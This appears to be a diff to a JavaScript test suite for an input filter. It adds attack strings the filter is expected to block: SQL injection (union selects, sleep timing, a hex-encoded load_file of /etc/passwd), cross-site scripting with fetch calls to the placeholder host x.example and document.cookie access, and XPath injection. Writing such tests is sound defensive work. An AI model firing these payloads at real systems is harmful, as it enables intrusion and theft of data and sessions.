@@ -23,6 +23,8 @@ describe('SQL in a body', () => {
     "select' union select password from users where 'a'='a",
     'SELECT sleep(5)',
     'SELECT load_file(0x2f6574632f706173737764)',
+    "x'union select' ',2,3-- ",
+    'sleep(5) rlike 1',
     "1);select user from mysql.user where ('1'='1",
   ]);
 });
@@ -111,6 +113,8 @@ describe('markup of editors', () => {
     '<p onclick="toggle`1`">x</p>',
     '<link rel=stylesheet href=//x.example/a>',
     '<script> day </script>',
+    '<script> a <b; fetch(name) //',
+    "';x='';fetch('//x.example/'+name)//",
     "');alert(1)//",
     '"-alert(document.cookie)-"',
     'x=document.cookie',
@@ -155,6 +159,7 @@ describe('filters and paths of other languages', () => {
     '(&(uid=admin)(userPassword=*))',
     '(objectClass=*)',
     "x'] | //user[name='a",
+    "//a['] | //user/*[contains(*,'",
   ]);
   blocks('command_injection', ['com.sun.rowset.JdbcRowSetImpl', 'org.apache.commons.dbcp.BasicDataSource']);
 });
